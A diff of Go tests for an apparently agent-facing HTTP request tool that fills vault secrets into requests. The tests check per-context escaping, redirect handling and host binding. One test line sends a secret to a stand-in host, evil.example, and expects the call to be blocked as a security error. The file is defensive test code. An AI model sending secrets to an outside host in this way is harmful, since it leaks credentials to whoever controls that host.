@@ -25,13 +25,14 @@ func vaultWith(t *testing.T, name, value string) *secrets.Vault {
 	return v
 }
 
-func TestSecretsAreEscapedForTheirPlace(t *testing.T) {
+func TestSecretsAreEscapedForTheirContext(t *testing.T) {
+	t.Parallel()
 	const value = `p&ss "w/rd"+`
 	var got struct {
 		path, query, basic, body string
 		sync.Mutex
 	}
-	n := newInternet(t, func(_ http.ResponseWriter, r *http.Request) {
+	n := newFakeInternet(t, func(_ http.ResponseWriter, r *http.Request) {
 		b, _ := io.ReadAll(r.Body)
 		got.Lock()
 		defer got.Unlock()
@@ -48,19 +49,21 @@ func TestSecretsAreEscapedForTheirPlace(t *testing.T) {
 		{"application/x-www-form-urlencoded", "k={{secret:git}}&l=1", "k=p%26ss+%22w%2Frd%22%2B&l=1"},
 		{"text/plain", "k={{ secret:git }}", "k=" + value},
 	} {
-		headers := map[string]string{"Authorization": "Basic ana:{{secret:git}}"}
-		if body.kind != "" {
-			headers["Content-Type"] = body.kind
-		}
-		says(t, n.do(t, "http_request", map[string]any{
-			"url":    "http://api.example/a/{{secret:git}}?k={{secret:git}}",
-			"method": "POST", "headers": headers, "body": body.body,
-		}), "200")
-		basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("ana:"+value))
-		if got.path != "/a/"+value || got.query != value || got.basic != basic ||
-			strings.ReplaceAll(got.body, `\u0026`, "&") != strings.ReplaceAll(body.want, `\u0026`, "&") {
-			t.Errorf("%s: got %q %q %q %q", body.kind, got.path, got.query, got.basic, got.body)
-		}
+		t.Run(body.kind, func(t *testing.T) {
+			headers := map[string]string{"Authorization": "Basic ana:{{secret:git}}"}
+			if body.kind != "" {
+				headers["Content-Type"] = body.kind
+			}
+			wantText(t, n.do(t, "http_request", map[string]any{
+				"url":    "http://api.example/a/{{secret:git}}?k={{secret:git}}",
+				"method": "POST", "headers": headers, "body": body.body,
+			}), "200")
+			basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("ana:"+value))
+			if got.path != "/a/"+value || got.query != value || got.basic != basic ||
+				strings.ReplaceAll(got.body, `\u0026`, "&") != strings.ReplaceAll(body.want, `\u0026`, "&") {
+				t.Errorf("got %q %q %q %q", got.path, got.query, got.basic, got.body)
+			}
+		})
 	}
 	d := n.Describe(callOf("http_request", map[string]any{
 		"url":     "http://api.example/a/{{secret:git}}",
@@ -75,9 +78,10 @@ func TestSecretsAreEscapedForTheirPlace(t *testing.T) {
 }
 
 func TestSecretsDoNotFollowRedirects(t *testing.T) {
+	t.Parallel()
 	var mu sync.Mutex
 	reached := map[string]string{}
-	n := newInternet(t, func(w http.ResponseWriter, r *http.Request) {
+	n := newFakeInternet(t, func(w http.ResponseWriter, r *http.Request) {
 		mu.Lock()
 		reached[r.Host] += r.URL.RawQuery + r.Header.Get("X-Key") + "\n"
 		mu.Unlock()
@@ -96,24 +100,24 @@ func TestSecretsDoNotFollowRedirects(t *testing.T) {
 			if headers != nil {
 				args["headers"] = headers
 			}
-			fails(t, n.do(t, "http_request", args), toolspec.PermissionError, "the request contains a secret")
+			wantError(t, n.do(t, "http_request", args), toolspec.PermissionError, "the request contains a secret")
 		}
 	}
-	says(t, n.do(t, "http_request", map[string]any{
+	wantText(t, n.do(t, "http_request", map[string]any{
 		"url":     "http://api.example/?to=/here",
 		"headers": map[string]string{"X-Key": "{{secret:git}}"},
 	}), "after 1 redirects")
 	if len(reached) != 1 || !strings.Contains(reached["api.example"], "value-of-git") {
 		t.Errorf("reached %v", reached)
 	}
-	fails(t, n.do(t, "http_request", map[string]any{"url": "http://evil.example/?k={{secret:git}}"}),
+	wantError(t, n.do(t, "http_request", map[string]any{"url": "http://evil.example/?k={{secret:git}}"}),
 		toolspec.SecurityError, "bound to api.example:80")
-	fails(t, n.do(t, "http_request", map[string]any{"url": "https://api.example/?k={{secret:git}}"}),
+	wantError(t, n.do(t, "http_request", map[string]any{"url": "https://api.example/?k={{secret:git}}"}),
 		toolspec.SecurityError, "bound to api.example:80")
-	fails(t, n.do(t, "http_request", map[string]any{"url": "http://api.example/?k={{secret:nobody}}"}),
+	wantError(t, n.do(t, "http_request", map[string]any{"url": "http://api.example/?k={{secret:nobody}}"}),
 		toolspec.UserError, "Use one of: git")
 	n.cfg.Secrets = vaultWith(t, "pem", "-----BEGIN X-----\nabc\n")
-	fails(t, n.do(t, "http_request", map[string]any{
+	wantError(t, n.do(t, "http_request", map[string]any{
 		"url":     "http://api.example/",
 		"headers": map[string]string{"X-Key": "{{secret:pem}}"},
 	}), toolspec.ValidationError, "line ends")
